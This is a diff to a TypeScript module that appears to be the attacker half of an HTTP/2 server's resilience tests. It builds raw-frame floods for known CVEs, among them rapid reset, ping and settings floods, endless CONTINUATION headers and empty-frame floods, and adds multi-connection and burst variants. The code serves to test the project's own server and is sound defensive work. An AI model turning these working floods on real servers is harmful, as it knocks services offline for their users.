@@ -7,10 +7,55 @@ import { connect as connectHttp2 } from 'node:http2'
 import { connect, type Socket } from 'node:net'
 import { setTimeout as delay } from 'node:timers/promises'
 import { fileURLToPath } from 'node:url'
-import { callBlock, frame, greeting, preface } from './http2-frames.js'
+import { callBlock, frame, greeting, indexedCallBlocks, preface } from './http2-frames.js'
+
+/** What a connection sends, beginning with the number of the first stream that it has not used yet; 200 numbers are its own. */
+type Piece = (firstStream: number) => Buffer
+
+const floods = {
+  /** CVE-2023-44487: streams that are reset as soon as they are opened. */
+  'rapid-resets': firstStream =>
+    repeatedWith(100, firstStream, id =>
+      Buffer.concat([frame('headers', 4, id, callBlock(list)), frame('reset', 0, id, Buffer.from([0, 0, 0, 8]))]),
+    ),
+  /** CVE-2019-9512 and CVE-2019-9515: what has to be answered, and is so cheap to ask. */
+  pings: always(repeated(500, frame('ping', 0, 0, Buffer.alloc(8)))),
+  settings: always(repeated(500, frame('settings', 0, 0, Buffer.alloc(0)))),
+  /** CVE-2024-27316: headers that have no end. */
+  'endless-headers': firstStream =>
+    Buffer.concat([
+      frame('headers', 0, firstStream, callBlock(list)),
+      repeated(20, frame('continuation', 0, firstStream, Buffer.from(`\0\x01x\x7e${'y'.repeat(126)}`))),
+    ]),
+  /** CVE-2019-9518: pieces of a request that have nothing in them. */
+  'empty-pieces': firstStream => {
+    const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(list)) : Buffer.alloc(0)
+    return Buffer.concat([begin, repeated(500, frame('data', 0, 1, Buffer.alloc(0)))])
+  },
+  /** What HTTP/2 passes over, or takes note of, and tells nobody. */
+  'unknown-frames': always(repeated(5_000, frame('unknown', 0, 0, Buffer.alloc(0)))),
+  windows: always(repeated(3_000, frame('window', 0, 0, Buffer.from([0, 0, 0, 1])))),
+  priorities: always(repeated(3_000, frame('priority', 0, 1, Buffer.from([0, 0, 0, 0, 1])))),
+  /** As many as one connection may send, and more, on more connections than one. */
+  calls: firstStream => repeatedWith(50, firstStream, id => call(id, callBlock(bandwidth))),
+  /** The same in so few bytes that one read brings thousands. */
+  'small-calls': firstStream => {
+    const { first, further } = indexedCallBlocks(bandwidth)
+    return repeatedWith(100, firstStream, id => call(id, id === 1 ? first : further))
+  },
+  /** Of a method that is not served. */
+  strays: firstStream => repeatedWith(100, firstStream, id => frame('headers', 5, id, callBlock(nothing))),
+  /** Of one stream that asks and asks: it is one call, however much it asks. */
+  questions: firstStream => {
+    const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(reflect)) : Buffer.alloc(0)
+    return Buffer.concat([begin, frame('data', 0, 1, repeated(100, aboutService))])
+  },
+} satisfies Record<string, Piece>
+
+type Flood = keyof typeof floods
 
 /** What each does to the server at a path; those that never end by themselves resolve once they are under way. */
-const attackOf = {
+const others = {
   /** Further ones take the place of those that the server has let go. */
   idle: async path => {
     for (let i = 0; i < 5_000; i++) await open(path)
@@ -59,61 +104,18 @@ const attackOf = {
       }
     }
   },
-  /** CVE-2023-44487: streams that are reset as soon as they are opened. */
-  'rapid-resets': path =>
-    flood(path, firstStream =>
-      Buffer.concat(
-        Array.from({ length: 100 }, (_, i) => {
-          const id = firstStream + 2 * i
-          return Buffer.concat([
-            frame('headers', 4, id, callBlock(list)),
-            frame('reset', 0, id, Buffer.from([0, 0, 0, 8])),
-          ])
-        }),
-      ),
-    ),
-  /** CVE-2019-9512 and CVE-2019-9515: what has to be answered, and is so cheap to ask. */
-  pings: path => flood(path, () => repeated(500, frame('ping', 0, 0, Buffer.alloc(8)))),
-  settings: path => flood(path, () => repeated(500, frame('settings', 0, 0, Buffer.alloc(0)))),
-  /** CVE-2024-27316: headers that have no end. */
-  'endless-headers': path =>
-    flood(path, firstStream =>
-      Buffer.concat([
-        frame('headers', 0, firstStream, callBlock(list)),
-        repeated(20, frame('continuation', 0, firstStream, Buffer.from(`\0\x01x\x7e${'y'.repeat(126)}`))),
-      ]),
-    ),
-  /** CVE-2019-9518: pieces of a request that have nothing in them. */
-  'empty-pieces': path =>
-    flood(path, firstStream => {
-      const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(list)) : Buffer.alloc(0)
-      return Buffer.concat([begin, repeated(500, frame('data', 0, 1, Buffer.alloc(0)))])
-    }),
-  /** As many as one connection may send, and more, on more connections than one. */
-  calls: path =>
-    flood(path, firstStream =>
-      Buffer.concat(
-        Array.from({ length: 50 }, (_, i) => {
-          const id = firstStream + 2 * i
-          return Buffer.concat([frame('headers', 4, id, callBlock(bandwidth)), frame('data', 1, id, emptyMessage)])
-        }),
-      ),
-    ),
-  /** Of a method that is not served. */
-  strays: path =>
-    flood(path, firstStream =>
-      Buffer.concat(
-        Array.from({ length: 100 }, (_, i) => frame('headers', 5, firstStream + 2 * i, callBlock(nothing))),
-      ),
-    ),
-  /** Of one stream that asks and asks: it is one call, however much it asks. */
-  questions: path =>
-    flood(path, firstStream => {
-      const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(reflect)) : Buffer.alloc(0)
-      return Buffer.concat([begin, frame('data', 0, 1, repeated(100, aboutService))])
-    }),
+  /** Connections that have done nothing, and then all send at once what HTTP/2 passes over, again and again. */
+  bursts: async path => {
+    const sockets = await Promise.all(Array.from({ length: 400 }, () => open(path)))
+    for (const socket of sockets) socket.resume().write(greeting)
+    const piece = repeated(20_000, frame('unknown', 0, 0, Buffer.alloc(0)))
+    forEver(1, async () => {
+      await delay(500)
+      for (const socket of sockets) if (!socket.destroyed) socket.write(piece)
+    })
+  },
   connections: path =>
-    forEver(8, async () => {
+    forEver(64, async () => {
       const socket = await open(path)
       socket.write(greeting)
       await once(socket, 'data').catch(() => undefined)
@@ -121,7 +123,16 @@ const attackOf = {
     }),
 } satisfies Record<string, (path: string) => void | Promise<void>>
 
-export type Attack = keyof typeof attackOf
+export type Attack = keyof typeof others | Flood | `many-${Flood}`
+
+const floodNames = Object.keys(floods) as readonly Flood[]
+
+const attackOf: Readonly<Record<string, (path: string) => void | Promise<void>>> = {
+  ...others,
+  ...Object.fromEntries(floodNames.map(name => [name, (path: string) => flood(path, 4, floods[name])])),
+  ...Object.fromEntries(floodNames.map(name => [`many-${name}`, (path: string) => flood(path, 64, floods[name])])),
+}
+
 export const attacks = Object.keys(attackOf) as readonly Attack[]
 
 export const attackersProgram = fileURLToPath(import.meta.url)
@@ -141,12 +152,15 @@ function forEver(many: number, once: () => Promise<void>): void {
   for (let i = 0; i < many; i++) void run()
 }
 
-/** What `next` gives, as fast as the server takes it, on four connections; one that the server closes is opened anew. */
-function flood(path: string, next: (firstStream: number) => Buffer): void {
-  forEver(4, async () => {
+/** What `next` gives, as fast as the server takes it, on so many connections; one that the server closes is opened anew. */
+function flood(path: string, connections: number, next: Piece): void {
+  forEver(connections, async () => {
     const socket = await open(path)
     socket.resume()
-    socket.write(greeting)
+    // Not the greeting's window, which could not be made larger.
+    socket.write(
+      next === floods.windows ? Buffer.concat([preface, frame('settings', 0, 0, Buffer.alloc(0))]) : greeting,
+    )
     const closed = new Promise(resolve => socket.once('close', resolve))
     for (let stream = 1; !socket.destroyed && stream < 0x7fffff00; stream += 200) {
       if (!socket.write(next(stream))) await Promise.race([closed, once(socket, 'drain').catch(() => undefined)])
@@ -159,6 +173,17 @@ function flood(path: string, next: (firstStream: number) => Buffer): void {
 function repeated(count: number, one: Buffer): Buffer {
   return Buffer.concat(Array.from({ length: count }, () => one))
 }
+
+function always(piece: Buffer): Piece {
+  return () => piece
+}
+
+function repeatedWith(count: number, firstStream: number, one: (stream: number) => Buffer): Buffer {
+  return Buffer.concat(Array.from({ length: count }, (_, i) => one(firstStream + 2 * i)))
+}
+
+const call = (stream: number, block: Buffer) =>
+  Buffer.concat([frame('headers', 4, stream, block), frame('data', 1, stream, emptyMessage)])
 
 const headers = (path: string) => ({
   ':method': 'POST',
@@ -186,7 +211,7 @@ if (process.argv[1] === attackersProgram) {
   if (uid !== undefined) process.setuid?.(Number(uid))
   const known = attacks.find(one => one === kind)
   if (known === undefined) throw new Error(`no attack ${kind}`)
-  await attackOf[known](path)
+  await attackOf[known]?.(path)
   process.stdout.write('ready\n')
   // Connections alone would not keep a process that the server has cut off.
   setInterval(() => {}, 1_000)
